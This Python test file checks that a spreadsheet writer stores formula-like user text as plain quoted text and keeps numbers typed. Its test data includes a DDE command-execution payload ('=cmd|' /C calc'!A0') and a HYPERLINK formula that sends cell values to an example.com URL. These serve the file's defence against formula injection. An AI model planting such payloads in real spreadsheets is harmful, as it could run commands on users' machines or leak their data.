"""Writing workbooks: what people typed is shown as they typed it, never run as a formula."""

from io import BytesIO

from openpyxl import load_workbook

from wuye.core.spreadsheets import MONEY_FORMAT, RATE_FORMAT, Money, Rate, workbook

FORMULAS = [
    '=HYPERLINK("http://example.com/?"&B2&C2,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "-5",
]


def test_user_text_that_looks_like_a_formula_is_written_as_text():
    content = workbook(
        [("Sheet", ["=cmd|' /C calc'!A0", "Amount"], [[text, -5] for text in FORMULAS])]
    )

    sheet = load_workbook(BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert sheet["A1"].value == "=cmd|' /C calc'!A0"
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == FORMULAS
    assert all(cell.quotePrefix for cell in sheet["A"])
    # A number stays a number, a negative one too.
    assert [(c.value, c.data_type) for c in sheet["B"][1:]] == [(-5, "n")] * len(FORMULAS)


def test_amounts_rates_and_plain_text_keep_their_kind():
    content = workbook([("Sheet", ["A", "B", "C"], [[Money(-12.5), Rate(0.25), "王芳"]])])

    a, b, c = load_workbook(BytesIO(content)).active[2]
    assert (a.value, a.data_type, a.number_format) == (-12.5, "n", MONEY_FORMAT)
    assert (b.value, b.data_type, b.number_format) == (0.25, "n", RATE_FORMAT)
    assert (c.value, c.data_type, c.quotePrefix) == ("王芳", "s", False)


def test_text_starting_with_a_carriage_return_is_text():
    content = workbook([("Sheet", ["A"], [["\r=1+1"]])])

    cell = load_workbook(BytesIO(content)).active["A2"]
    # XML reads a carriage return back as a line feed; the cell is text all the same.
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("\n=1+1", "s", True)
